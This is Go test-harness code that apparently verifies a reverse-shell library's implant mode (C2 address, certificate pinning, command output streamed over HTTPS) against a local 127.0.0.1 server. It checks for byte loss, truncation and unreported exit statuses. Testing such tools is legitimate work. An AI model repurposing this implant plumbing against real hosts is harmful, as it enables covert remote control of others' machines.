			how += fmt.Sprintf(", %d ms after the command", res.toolExitAt.Sub(res.exitAt).Milliseconds())
		}
		how += fmt.Sprintf("; its stderr: %q", short(res.toolStderr))
	}
	if known || lower {
		if v.gotOut < wroteOut {
			add("stdout-truncated", "the request body ended (%s) after %d of the %d stdout bytes the command had written; %s", errStr(res.bodyErr), v.gotOut, wroteOut, how)
		}
		if v.gotErr < wroteErr {
			add("stderr-truncated", "the request body ended (%s) after %d of the %d stderr bytes the command had written; %s", errStr(res.bodyErr), v.gotErr, wroteErr, how)
		}
		if known && (wroteOut != c.NOut || wroteErr != c.NErr) {
			v.inconcl = append(v.inconcl, fmt.Sprintf("cli case %d: command reports %d/%d bytes written, plan was %d/%d", c.Index, wroteOut, wroteErr, c.NOut, c.NErr))
		}
		if known && v.gotOut == wroteOut && v.gotErr == wroteErr {
			v.complete = true
		}
	} else {
		v.inconcl = append(v.inconcl, fmt.Sprintf("cli case %d: the command left no usable account of what it wrote (report %+v; tool %s, stderr %q)", c.Index, res.rep, res.toolState, short(res.toolStderr)))
	}
	if !errors.Is(res.bodyErr, io.EOF) || errors.Is(res.bodyErr, io.ErrUnexpectedEOF) {
		add("output-ends-with-error", "the request body (the shell's output stream) ended with %q instead of a clean end although the command ran and ended on its own (%s) and the response was still open; %d of %d bytes had arrived; %s", errStr(res.bodyErr), c.exitDesc(), len(res.got), c.NOut+c.NErr, how)
	}
	switch {
	case res.toolHung || !res.toolExited:
		v.inconcl = append(v.inconcl, fmt.Sprintf("cli case %d: the tool had not exited when the bound expired although the response had ended", c.Index))
	case (c.Exit != 0 || c.Sig != "") && !res.killed && res.exitSeen && res.rep != nil && res.rep.Kind != "partial":
		// The command ran to its last statement, which is exit N (N != 0) or
		// a signal to itself followed by exit 99: unsuccessful either way.
		if ok, _ := res.reported(); !ok {
			key, what := "nonzero-exit-not-reported", fmt.Sprintf("exited with status %d", c.Exit)
			if c.Sig != "" {
				key, what = "signal-death-not-reported", "killed itself with SIG"+c.Sig
			}
			add(key, "the wrapped command %s and the tool reported nothing: exit status %d, nothing on its standard error, nothing on its standard output (command line %q, environment added %q)", what, res.toolExit, res.argv, res.envAdded)
		}
	}
	return
}

func witnessCLI(e *cliSpec, res *cliResult, v verdict, dir string) map[string]any {
	c := e.C
	_, text := c.script(dir)
	if len(text) > 6000 {
		text = text[:3000] + "\n…(plan shortened)…\n" + text[len(text)-1500:]
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	afterMs := int64(-1)
	if res.exitSeen && res.toolExited {
		afterMs = res.toolExitAt.Sub(res.exitAt).Milliseconds()
	}
	return map[string]any{
		"child_script": text, "stdout_bytes_planned": c.NOut, "stderr_bytes_planned": c.NErr,
		"write_sizes": c.WOut + "/" + c.WErr, "interleave": c.Interleave,
		"exit_status": c.Exit, "killed_by_own_signal": c.Sig, "exit_mode": c.ExitMode, "linger_ms": c.LingerMs,
		"c2_from": e.Conf.C2, "fingerprint_from": e.Conf.FP, "command_from": e.Conf.Args, "flag_spelling": cliSpellings[e.Spelling],
		"tool_command_line": res.argv, "tool_environment_added": res.envAdded, "tool_uses_compile_time_values": e.usesLdx(),
		"tool_wait_status": res.toolState, "tool_stderr": short(res.toolStderr), "tool_stdout": short(res.toolStdout),
		"tool_ended_ms_after_command": afterMs, "server_bytes_unread_when_tool_ended": res.unreadAtToolExit,
		"server_offers": e.Proto, "request_proto": res.proto, "server_so_rcvbuf": e.RcvBuf,
		"early_input_bytes": e.PreN, "stdin_bytes_seen_by_command": len(res.seen),
		"server_reader": e.Reader, "keeps_up_for_bytes": e.FastBytes, "lag_ms": e.LagMs, "rest_read_sizes": e.DrainChunks,
		"server_bytes_read_by_phase": []int{res.bytesFast, res.bytesSlow, res.bytesDrain}, "server_bytes_read_at_command_exit": res.readAtExit,
		"bytes_in_pipes_between_command_and_tool_at_command_exit": res.pipedAtExit,
		"stdout_bytes_received":                                   v.gotOut, "stderr_bytes_received": v.gotErr,
		"request_body_terminal_condition": errStr(res.bodyErr), "request_body_ended_by_itself": res.bodyEnded,
		"child_report": fmt.Sprintf("%+v", res.rep), "wall_ms": res.wall.Milliseconds(),
	}
}

// ---- driver ---------------------------------------------------------------------

func runCLIEngine(r *mon.Run) {
	if !r.WantEngine(cliEngine) {
		return
	}
	n := r.N(24, 192)
	tl, err := newE2ETLS()
	if err != nil {
		r.Inconclusive("cli: cannot make a certificate: " + err.Error())
		return
	}
	w, err := newCLIWorld(r, tl)
	if err != nil {
		r.Inconclusive("cli: cannot build the simpleshell program: " + err.Error())
		return
	}
	defer w.close()
	var mu sync.Mutex
	var timeouts []int
	sampled := 0

	one := func(i int, bound time.Duration, retry bool) (timedOut bool) {
		e := genCLI(r, i)
		c := e.C
		dir := filepath.Join(w.dir, fmt.Sprintf("k%d", i))
		if retry {
			dir += "r"
		}
		res := runCLI(e, w, dir, bound)
		defer os.RemoveAll(dir)
		v := judgeCLI(e, res)
		if !retry {
			r.Eval(1)
			r.Distinct(e.sig())
			res.mu.Lock()
			pname := strings.ReplaceAll(strings.ToLower(res.proto), "/", "")
			r.Count("cli_cases", 1)
			if res.handlerCalled {
				r.Count("cli_cases_"+pname, 1)
				r.Count("cli_c2_from_"+e.Conf.C2, 1)
				r.Count("cli_fingerprint_from_"+e.Conf.FP, 1)
				r.Count("cli_command_from_"+e.Conf.Args, 1)
				r.Count("cli_pair_c2_"+e.Conf.C2+"_fingerprint_"+e.Conf.FP, 1)
				r.Count("cli_pair_c2_"+e.Conf.C2+"_command_"+e.Conf.Args, 1)
				r.Count("cli_pair_fingerprint_"+e.Conf.FP+"_command_"+e.Conf.Args, 1)
				if e.Conf.C2 == "flag" || e.Conf.FP == "flag" {
					r.Count("cli_flag_spelling_"+strconv.Itoa(e.Spelling), 1)
				}
				if e.Conf.Args == "cmd" && e.DashDash {
					r.Count("cli_command_after_double_dash_cases", 1)
				}
				if e.Conf.Args == "env" {
					r.Count("cli_args_variable_cases", 1)
				}
				if e.usesLdx() {
					r.Count("cli_compile_time_value_cases", 1)
				}
				if e.emptyCommandLine() {
					r.Count("cli_empty_command_line_cases", 1)
				}
			}
			r.Count("cli_reader_"+e.Reader+"_cases", 1)
			r.Count("cli_chunks_read_because_command_slept_in_pipe_write", int64(res.jit[0]))
			r.Count("cli_chunks_read_because_command_slept_with_a_full_pipe", int64(res.jit[1]))
			r.Count("cli_chunks_read_for_liveness_after_500ms_or_5s_in_all", int64(res.jit[2]))
			r.Count("cli_bytes_written_by_command", int64(c.NOut+c.NErr))
			r.Count("cli_bytes_received_by_server", int64(len(res.got)))
			r.Count("cli_stdout_bytes_received", int64(v.gotOut))
			r.Count("cli_stderr_bytes_received", int64(v.gotErr))
			if res.bodyEnded {
				if res.bodyErr == io.EOF {
					r.Count("cli_request_body_clean_end_cases", 1)
				} else {
					r.Count("cli_request_body_error_end_cases", 1)
				}
			}
			if v.complete {
				r.Count("cli_cases_complete_and_exact", 1)
			}
			if res.exitSeen {
				r.Count("cli_command_exit_observed_cases", 1)
				lag := int64(c.NOut+c.NErr) - res.readAtExit
				r.Count("cli_bytes_unread_by_server_at_command_exit", lag)
				if res.pipedAtExit >= 0 {
					r.Count("cli_pipes_of_the_tool_inspected_at_command_exit_cases", 1)
					r.Count("cli_bytes_in_pipes_between_command_and_tool_at_command_exit", res.pipedAtExit)
				}
				if res.bodyEnded && !res.bodyEndAt.IsZero() {
					behind := res.bodyEndAt.Sub(res.exitAt)
					// output the tool had not even taken out of the command's
					// pipes when the command exited
					// when it exited, or - HTTP/2 - what exceeded the 1 MiB
					// receive window of the harness server (net/http's default
					// per stream and per connection), which flow control kept
					// inside the tool whatever the kernel's buffers hold
					held := max(res.pipedAtExit, 0)
					if pname == "http2.0" {
						held = max(held, lag-(1<<20))
					}
					inTool := held >= 4<<10
					r.Count("cli_bytes_certainly_not_yet_sent_by_tool_at_command_exit", held)
					for _, ms := range []int{250, 1200, 2500, 5000} {
						if behind >= time.Duration(ms)*time.Millisecond {
							r.Count(fmt.Sprintf("cli_cases_request_body_ended_%dms_or_more_after_command_exit", ms), 1)
							if lag >= 256<<10 {
								r.Count(fmt.Sprintf("cli_cases_256KiB_or_more_unread_and_%dms_or_more_behind", ms), 1)
							}
							if inTool {
								r.Count(fmt.Sprintf("cli_cases_4KiB_or_more_not_yet_sent_by_tool_at_command_exit_and_%dms_or_more_behind", ms), 1)
							}
						}
					}
				}
			}
			if e.PreN > 0 {
				r.Count("cli_early_input_cases", 1)
				r.Count("cli_early_input_bytes_seen_by_command", int64(len(res.seen)))
			}
			ran := res.exitSeen && !res.killed && res.toolExited && res.rep != nil && res.rep.Kind != "partial"
			rep, how := res.reported()
			switch {
			case ran && (c.Sig != "" || c.Exit != 0):
				kind := "nonzero"
				if c.Sig != "" {
					kind = "signal"
					r.Count("signal_exit_cases_"+c.Sig, 1)
				}
				r.Count("cli_"+kind+"_exit_cases", 1)
				r.Count("cli_unsuccessful_exit_cases", 1)
				r.Count("cli_unsuccessful_exit_cases_c2_from_"+e.Conf.C2, 1)
				r.Count("cli_unsuccessful_exit_cases_fingerprint_from_"+e.Conf.FP, 1)
				r.Count("cli_unsuccessful_exit_cases_command_from_"+e.Conf.Args, 1)
				if e.emptyCommandLine() {
					r.Count("cli_unsuccessful_exit_with_empty_command_line_cases", 1)
					if e.usesLdx() {
						r.Count("cli_unsuccessful_exit_with_empty_command_line_and_compile_time_values_cases", 1)
					} else {
						r.Count("cli_unsuccessful_exit_with_empty_command_line_all_from_environment_cases", 1)
					}
				}
				if rep {
					r.Count("cli_unsuccessful_exit_reported", 1)
					r.Count("cli_unsuccessful_exit_reported_through_"+how, 1)
				}
			case ran && rep:
				r.Count("cli_report_on_clean_exit", 1)
			}
			if res.toolHung || (res.toolStarted && !res.toolExited) {
				r.Count("cli_tool_did_not_exit_in_time", 1)
			}
			if res.killed {
				r.Count("children_killed_by_harness", 1)
			}
			res.mu.Unlock()
			if res.wall > 12*time.Second {
				r.Count("cli_cases_longer_than_12s", 1)
				r.Logf("cli case %d took %s: %s", i, res.wall.Round(time.Millisecond), e.sig())
			}
		}
		if r.Replaying() {
			wt := witnessCLI(e, res, v, dir)
			delete(wt, "child_script")
			js, _ := json.Marshal(wt)
			r.Logf("cli case %d: %s", i, js)
		}
		desc := e.desc()
		seen := map[string]bool{}
		for _, f := range v.viol {
			if seen[f.key] {
				continue
			}
			seen[f.key] = true
			r.Violate(cliEngine, i, f.key, desc+": "+f.what, witnessCLI(e, res, v, dir))
		}
		for _, m := range v.inconcl {
			r.Inconclusive(m)
		}
		if v.timeout {
			if retry {
				r.Violate(cliEngine, i, "output-stream-does-not-end:cli", fmt.Sprintf("%s: the request body had not ended %s after the start, also when the case ran alone; %d stdout and %d stderr bytes had arrived", desc, bound, v.gotOut, v.gotErr), witnessCLI(e, res, v, dir))
			}
			return true
		}
		if retry {
			r.Inconclusive(fmt.Sprintf("cli case %d: the request body did not end within 30 s under load but did when run alone", i))
		}
		mu.Lock()
		take := sampled < 2 && !retry && len(c.Ops) <= 40 && c.NOut+c.NErr >= 1<<20
		if take {
			sampled++
		}
		mu.Unlock()
		if take {
			r.Sample("cli", witnessCLI(e, res, v, dir))
		}
		return false
	}

	bound := 30 * time.Second
	if r.Replaying() {
		for i := 0; i < n; i++ {
			if r.Want(cliEngine, i) {
				if one(i, bound, false) {
					one(i, 2*bound, true)
				}
			}
		}
		return
	}
	mon.Parallel(n, cliWorkers, func(i int) {
		if one(i, bound, false) {
			mu.Lock()
			timeouts = append(timeouts, i)
			mu.Unlock()
		}
	})
	r.Count("cli_cases_not_ended_within_bound", int64(len(timeouts)))
	for k, i := range timeouts {
		if k >= maxRetry {
			r.Inconclusive(fmt.Sprintf("cli case %d: the request body did not end within %s; not re-run alone (only the first %d are)", i, bound, maxRetry))
			continue
		}
		one(i, 2*bound, true)
	}
	r.Count("cli_builds_of_the_tool", int64(w.builds))

	r.Floor("cli_cases", int64(n*9/10))
	r.Floor("cli_cases_http1.1", int64(n/3))
	r.Floor("cli_cases_http2.0", int64(n/3))
	r.Floor("cli_request_body_clean_end_cases", int64(n*3/4))
	r.Floor("cli_cases_complete_and_exact", int64(n*3/4))
	r.Floor("cli_bytes_received_by_server", int64(n)*(2<<20))
	r.Floor("cli_stdout_bytes_received", int64(n)*(256<<10))
	r.Floor("cli_stderr_bytes_received", int64(n)*(256<<10))
	for _, s := range []string{"flag", "env", "ldx"} {
		r.Floor("cli_c2_from_"+s, int64(n/8))
		r.Floor("cli_unsuccessful_exit_cases_c2_from_"+s, int64(n/24))
	}
	for _, s := range []string{"flag", "env", "ldx", "none"} {
		r.Floor("cli_fingerprint_from_"+s, int64(n/12))
		r.Floor("cli_unsuccessful_exit_cases_fingerprint_from_"+s, int64(n/24))
	}
	for _, s := range []string{"cmd", "env", "ldx"} {
		r.Floor("cli_command_from_"+s, int64(n/8))
		r.Floor("cli_unsuccessful_exit_cases_command_from_"+s, int64(n/24))
	}
	for k := range cliSpellings {
		r.Floor("cli_flag_spelling_"+strconv.Itoa(k), int64(n/12))
	}
	// the pairs of the first dozen configurations at every tier, all of them in thorough
	pairs := map[string]bool{}
	for k, cf := range cliConfigs {
		if k >= n {
			break
		}
		pairs["cli_pair_c2_"+cf.C2+"_fingerprint_"+cf.FP] = true
		pairs["cli_pair_c2_"+cf.C2+"_command_"+cf.Args] = true
		pairs["cli_pair_fingerprint_"+cf.FP+"_command_"+cf.Args] = true
	}
	for p := range pairs {
		r.Floor(p, 1)
	}
	r.Count("cli_setting_source_pairs_planned", int64(len(pairs)))
	r.Floor("cli_command_after_double_dash_cases", int64(n/12))
	r.Floor("cli_compile_time_value_cases", int64(n/4))
	r.Floor("cli_empty_command_line_cases", int64(n/8))
	r.Floor("cli_unsuccessful_exit_cases", int64(n/2))
	r.Floor("cli_nonzero_exit_cases", int64(n/5))
	r.Floor("cli_signal_exit_cases", int64(n/5))
	r.Floor("cli_unsuccessful_exit_reported", int64(n/2))
	r.Floor("cli_unsuccessful_exit_with_empty_command_line_all_from_environment_cases", int64(max(n/48, 1)))
	r.Floor("cli_unsuccessful_exit_with_empty_command_line_and_compile_time_values_cases", int64(max(n/48, 1)))
	r.Floor("cli_cases_request_body_ended_250ms_or_more_after_command_exit", int64(n/2))
	r.Floor("cli_cases_request_body_ended_1200ms_or_more_after_command_exit", int64(n/3))
	r.Floor("cli_cases_request_body_ended_2500ms_or_more_after_command_exit", int64(n/6))
	r.Floor("cli_cases_request_body_ended_5000ms_or_more_after_command_exit", int64(n/12))
	r.Floor("cli_cases_256KiB_or_more_unread_and_1200ms_or_more_behind", int64(n/4))
	r.Floor("cli_cases_4KiB_or_more_not_yet_sent_by_tool_at_command_exit_and_1200ms_or_more_behind", int64(n/12))
	r.Floor("cli_early_input_cases", int64(n/8))
}

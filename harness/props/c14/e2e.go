package c14

// Engine "e2e": the same generated child programs, but run the way an implant
// runs them: simpleshell.Go(ctx, ConnConfig{C2, Fingerprint}, CmdShell) posts
// Output() as the body of one HTTPS request to a harness server and feeds the
// response body to the child.  The harness server behaves like the real /io
// handler (full duplex enabled, header flushed at once), reads the request body
// with a scripted schedule that lags behind the child's burst, writes scripted
// input to the response - some of it before the child reads, a few lines after
// the child has certainly exited - and ends the response only after the request
// body has ended.  What the server read up to the end of the request body must
// be what the child wrote, and the body must end cleanly.

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const (
	e2eEngine  = "e2e"
	e2eWorkers = 6
)

type e2eSpec struct {
	C         *spec  // the child program
	Proto     string // h1 | h2: what the server offers
	PinPrefix bool   // fingerprint given with the sha256// prefix
	RcvBuf    int    // SO_RCVBUF of the server's connection, 0 = system default

	PreN       int // bytes of input sent at once, read by the child before/between its writes
	PreChunks  []int
	PreDelayUs int
	pre        []byte

	Reader      string // lag-stall | slow | keep-up
	FastBytes   int    // the server keeps up with this much first
	SlowChunk   int    // then reads this much ...
	SlowDelayUs int    // ... every so often, until the child has exited
	GraceMs     int    // lag-stall: no reads at all from the child's exit until this long after the last line of late input
	DrainChunks []int  // read sizes for the rest

	PostExitDelayMs int // late input: pause between the child's exit and the first line
	Lines           int
	LineLen         int
	LineGapUs       int
	EndDelayMs      int // pause between the end of the request body and the end of the response
}

var e2eBigSet = []int{0, 65537, 1 << 20, 2<<20 + 1, 3 << 20, 5 << 20}

// mergeOps interleaves the writes of both descriptors.
func mergeOps(rng interface{ IntN(int) int }, kind string, so, se []int) (ops []op) {
	add := func(fd int, n int) { ops = append(ops, op{K: fmt.Sprintf("w%d", fd), N: n}) }
	switch kind {
	case "out-first":
		for _, n := range so {
			add(1, n)
		}
		for _, n := range se {
			add(2, n)
		}
	case "err-first":
		for _, n := range se {
			add(2, n)
		}
		for _, n := range so {
			add(1, n)
		}
	default:
		a, b := so, se
		for turn := 0; len(a) > 0 || len(b) > 0; turn++ {
			takeA := len(b) == 0
			if len(a) > 0 && len(b) > 0 {
				if kind == "alternate" {
					takeA = turn%2 == 0
				} else {
					takeA = rng.IntN(len(a)+len(b)) < len(a)
				}
			}
			if takeA {
				add(1, a[0])
				a = a[1:]
			} else {
				add(2, b[0])
				b = b[1:]
			}
		}
	}
	return
}

func genE2E(r *mon.Run, i int) *e2eSpec {
	rng := r.Rng(e2eEngine, i)
	c := &spec{Index: i, Mode: "pattern", Flavor: "perl"}
	e := &e2eSpec{C: c}
	// Protocol and way of ending go by index, so that every run has the same
	// share of each whatever the seed; everything else comes from the PRNG.
	e.Proto = []string{"h1", "h2"}[i%2]
	switch (i / 2) % 4 {
	case 2:
		c.Exit = []int{1, 3, 255}[rng.IntN(3)]
	case 3:
		c.Sig = sigSet[(i/8*2+i%2)%len(sigSet)]
	}
	e.PinPrefix = rng.IntN(2) == 0
	// A fixed receive buffer switches the kernel's auto-tuning off, so what the
	// server has not read stays on the client's side of the connection.
	e.RcvBuf = []int{0, 65536, 65536, 262144}[rng.IntN(4)]

	burst := rng.IntN(4) != 0
	if burst {
		for {
			c.NOut, c.NErr = pick(rng, e2eBigSet), pick(rng, e2eBigSet)
			if t := c.NOut + c.NErr; t >= 1<<20 && t <= 8<<20 {
				break
			}
		}
	} else {
		c.NOut, c.NErr = pick(rng, sizeSet), pick(rng, sizeSet)
	}
	total := c.NOut + c.NErr
	so, do := writeSizes(rng, c.NOut)
	se, de := writeSizes(rng, c.NErr)
	c.WOut, c.WErr = do, de
	c.Interleave = []string{"out-first", "err-first", "random", "alternate"}[rng.IntN(4)]
	ops := mergeOps(rng, c.Interleave, so, se)
	if len(ops) > 0 && rng.IntN(3) == 0 {
		p := 12.0 / float64(len(ops))
		for k := range ops {
			if rng.Float64() < p {
				ops[k].P = rng.IntN(3001)
			}
		}
	}
	// input the child reads (exactly that much) before or between its writes
	c.Stdin.Kind = "response-body"
	if rng.IntN(2) == 0 {
		e.PreN = []int{1, 100, 5000, 70000}[rng.IntN(4)]
		e.pre = make([]byte, e.PreN)
		fillRand(rng, e.pre)
		for k := 1 + rng.IntN(3); k > 0; k-- {
			e.PreChunks = append(e.PreChunks, []int{1, 100, 4096, 32768, 1 << 20}[rng.IntN(5)])
		}
		if e.PreN > 8192 {
			for k := range e.PreChunks {
				e.PreChunks[k] = max(e.PreChunks[k], 511)
			}
		}
		if rng.IntN(3) == 0 && e.PreN/e.PreChunks[0] < 200 {
			e.PreDelayUs = rng.IntN(1001)
		}
		at := 0
		if rng.IntN(5) == 0 && len(ops) > 0 {
			at = rng.IntN(len(ops) + 1)
		}
		ops = append(ops[:at], append([]op{{K: "I", N: e.PreN}}, ops[at:]...)...)
		c.Stdin.N = e.PreN
	}
	switch v := rng.IntN(20); {
	case v < 9:
		c.ExitMode = "immediate"
		ops = append([]op{{K: "P"}}, ops...)
	case v < 16:
		c.ExitMode = "linger"
		c.LingerMs = 1 + rng.IntN(50)
		ops = append(ops, op{K: "R"}, op{K: "S", N: c.LingerMs * 1000})
	default:
		c.ExitMode = "after-report"
		ops = append(ops, op{K: "R"})
	}
	c.Ops = ops

	// the server's reading schedule
	switch v := rng.IntN(20); {
	case v < 14 || (burst && v < 16):
		e.Reader = "lag-stall"
	case v < 18:
		e.Reader = "slow"
	default:
		e.Reader = "keep-up"
	}
	e.FastBytes = []int{0, 65536, 1 << 20, total / 2}[rng.IntN(4)]
	if burst && e.FastBytes > total-(512<<10) { // a burst leaves at least half a MiB to lag behind with
		e.FastBytes = total / 4
	}
	e.SlowChunk = []int{16384, 32768, 65536}[rng.IntN(3)]
	e.SlowDelayUs = []int{500, 1000, 2000}[rng.IntN(3)]
	if slow := total / e.SlowChunk * e.SlowDelayUs; slow > 600_000 { // at most ~0.6 s of scripted pauses
		e.SlowDelayUs = 600_000 / (total/e.SlowChunk + 1)
	}
	e.GraceMs = 60 + rng.IntN(240)
	if rng.IntN(3) == 0 {
		e.DrainChunks = []int{65536}
	} else {
		for k := 1 + rng.IntN(4); k > 0; k-- {
			e.DrainChunks = append(e.DrainChunks, []int{4096, 4097, 16384, 32768, 65536}[rng.IntN(5)])
		}
	}
	// late input
	e.PostExitDelayMs = rng.IntN(20)
	e.Lines = []int{0, 1, 3, 3, 10, 10, 40, 40}[rng.IntN(8)]
	e.LineLen = []int{1, 40, 255}[rng.IntN(3)]
	e.LineGapUs = []int{0, 200, 1000}[rng.IntN(3)]
	e.EndDelayMs = rng.IntN(10)
	return e
}

func (e *e2eSpec) sig() string {
	c := e.C
	return fmt.Sprintf("e2e|%s|%v|%d|%d|%d|%s|%s|%s|%d%s|%s|%d|%d|%v|%s|%d|%d|%d|%v|%d|%d|%d",
		e.Proto, e.PinPrefix, e.RcvBuf, c.NOut, c.NErr, c.WOut, c.WErr, c.Interleave, c.Exit, c.Sig, c.ExitMode, c.LingerMs,
		e.PreN, e.PreChunks, e.Reader, e.FastBytes, e.SlowChunk, e.SlowDelayUs, e.DrainChunks, e.Lines, e.LineLen, e.LineGapUs)
}

// ---- TLS ------------------------------------------------------------------------

type e2eTLS struct {
	cert tls.Certificate
	pin  string
}

// newE2ETLS makes a fresh self-signed P-256 certificate; the pin is what curl
// --pinnedpubkey wants: base64(sha256(SubjectPublicKeyInfo)).
func newE2ETLS() (*e2eTLS, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if err != nil {
		return nil, err
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: "c14-e2e"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		IPAddresses:  []net.IP{net.IPv4(127, 0, 0, 1)},
	}
	der, err := x509.CreateCertificate(crand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, err
	}
	leaf, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, err
	}
	h := sha256.Sum256(leaf.RawSubjectPublicKeyInfo)
	return &e2eTLS{
		cert: tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key, Leaf: leaf},
		pin:  base64.StdEncoding.EncodeToString(h[:]),
	}, nil
}

type rcvbufListener struct {
	net.Listener
	rcv int
}

func (l rcvbufListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil && l.rcv > 0 {
		if t, ok := c.(*net.TCPConn); ok {
			t.SetReadBuffer(l.rcv)
		}
	}
	return c, err
}

// ---- one case ---------------------------------------------------------------------

type e2eResult struct {
	mu sync.Mutex // guards what the handler writes

	handlerCalled bool
	extraCalls    int
	proto         string
	fullDuplexErr error
	got           []byte
	bodyErr       error
	bodyEnded     bool // the handler's reading ended by itself (any terminal condition)
	bytesFast     int
	bytesSlow     int
	bytesDrain    int
	exitSeen      bool
	readAtExit    int64 // what the server had read when the child was seen to have exited
	linesSent     int
	preSent       int
	preWriteErr   error
	postWriteErr  error

	serverRead       atomic.Int64
	unreadAtGoReturn int64 // child's total minus what the server had read when Go returned; -1 = n/a
	goErr            error
	goReturned       bool
	goHung           bool
	timedOut         bool
	killed           bool
	rep              *report
	procKnown        bool
	procExit         int
	procSignaled     bool
	procSignal       syscall.Signal
	procState        string
	seen             []byte
	setupErr         string
	wall             time.Duration
}

func runE2E(e *e2eSpec, tl *e2eTLS, dir string, bound time.Duration) (res *e2eResult) {
	res = &e2eResult{unreadAtGoReturn: -1}
	c := e.C
	t0 := time.Now()
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	prog, text := c.script(dir)
	path := filepath.Join(dir, "child")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		res.setupErr = err.Error()
		return
	}

	stop := make(chan struct{})
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	handlerDone := make(chan struct{})
	var calls atomic.Int32

	// ---- the server ----
	handler := func(w http.ResponseWriter, r *http.Request) {
		if calls.Add(1) != 1 {
			res.mu.Lock()
			res.extraCalls++
			res.mu.Unlock()
			http.Error(w, "one shell only", http.StatusServiceUnavailable)
			return
		}
		defer close(handlerDone)
		rc := http.NewResponseController(w)
		fdErr := rc.EnableFullDuplex()
		w.WriteHeader(http.StatusOK)
		flErr := rc.Flush()
		res.mu.Lock()
		res.handlerCalled, res.proto, res.fullDuplexErr = true, r.Proto, fdErr
		res.mu.Unlock()
		if flErr != nil {
			res.mu.Lock()
			res.preWriteErr = flErr
			res.mu.Unlock()
		}

		exitSeen := make(chan struct{})
		postDone := make(chan struct{})
		// The input side: early input, then a few lines once the child has
		// certainly exited.
		go func() {
			defer close(postDone)
			send := func(b []byte) error {
				rc.SetWriteDeadline(time.Now().Add(20 * time.Second))
				if _, err := w.Write(b); err != nil {
					return err
				}
				return rc.Flush()
			}
			for off, k := 0, 0; off < len(e.pre); k++ {
				n := min(e.PreChunks[k%len(e.PreChunks)], len(e.pre)-off)
				if err := send(e.pre[off : off+n]); err != nil {
					res.mu.Lock()
					res.preWriteErr = err
					res.mu.Unlock()
					break
				}
				off += n
				res.mu.Lock()
				res.preSent = off
				res.mu.Unlock()
				if !nap(time.Duration(e.PreDelayUs)*time.Microsecond, stop) {
					return
				}
			}
			for childState(dir) != 2 {
				if !nap(time.Millisecond, stop) {
					return
				}
			}
			res.mu.Lock()
			res.exitSeen, res.readAtExit = true, res.serverRead.Load()
			res.mu.Unlock()
			close(exitSeen)
			if !nap(time.Duration(e.PostExitDelayMs)*time.Millisecond, stop) {
				return
			}
			for l := 0; l < e.Lines; l++ {
				line := fmt.Sprintf("%-*s\n", e.LineLen-1, fmt.Sprintf("#%d", l))
				if err := send([]byte(line)); err != nil {
					res.mu.Lock()
					res.postWriteErr = err
					res.mu.Unlock()
					return
				}
				res.mu.Lock()
				res.linesSent++
				res.mu.Unlock()
				if !nap(time.Duration(e.LineGapUs)*time.Microsecond, stop) {
					return
				}
			}
		}()

		// The output side.
		buf := make([]byte, 65536)
		ended := false
		read := func(n int, phase *int) bool {
			k, err := r.Body.Read(buf[:n])
			res.mu.Lock()
			res.got = append(res.got, buf[:k]...)
			*phase += k
			if err != nil {
				res.bodyErr = err
				select {
				case <-stop: // torn down by the harness: not the body's own end
				default:
					res.bodyEnded = true
				}
				ended = true
			}
			res.mu.Unlock()
			res.serverRead.Add(int64(k))
			return err == nil
		}
		exited := func() bool {
			select {
			case <-exitSeen:
				return true
			default:
				return false
			}
		}
		var nFast, nSlow, nDrain int
		if e.Reader != "keep-up" {
			for nFast < e.FastBytes && !ended {
				read(min(65536, e.FastBytes-nFast), &nFast)
			}
			for !ended && (e.Reader == "slow" || !exited()) {
				if !read(e.SlowChunk, &nSlow) {
					break
				}
				if !nap(time.Duration(e.SlowDelayUs)*time.Microsecond, stop) {
					break
				}
			}
			if !ended && e.Reader == "lag-stall" {
				// The child is gone; whatever it wrote and the server has
				// not read is in flight.  Nothing is read until the late
				// input has been sent and some more time has passed.
				select {
				case <-postDone:
				case <-stop:
				}
				nap(time.Duration(e.GraceMs)*time.Millisecond, stop)
			}
		}
		for k := 0; !ended; k++ {
			read(e.DrainChunks[k%len(e.DrainChunks)], &nDrain)
		}
		res.mu.Lock()
		res.bytesFast, res.bytesSlow, res.bytesDrain = nFast, nSlow, nDrain
		res.mu.Unlock()
		<-postDone
		nap(time.Duration(e.EndDelayMs)*time.Millisecond, stop)
	}

	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		res.setupErr = "listen: " + err.Error()
		return
	}
	mux := http.NewServeMux()
	mux.HandleFunc(simpleshell.IOPath, handler)
	srv := &http.Server{
		Handler:   mux,
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{tl.cert}, MinVersion: tls.VersionTLS12},
		ErrorLog:  log.New(io.Discard, "", 0),
	}
	if e.Proto == "h1" {
		srv.TLSNextProto = map[string]func(*http.Server, *tls.Conn, http.Handler){} // no HTTP/2
	}
	srvDone := make(chan struct{})
	go func() {
		defer close(srvDone)
		srv.ServeTLS(rcvbufListener{ln, e.RcvBuf}, "", "")
	}()
	defer func() {
		srv.Close()
		<-srvDone
	}()

	// ---- the shell ----
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
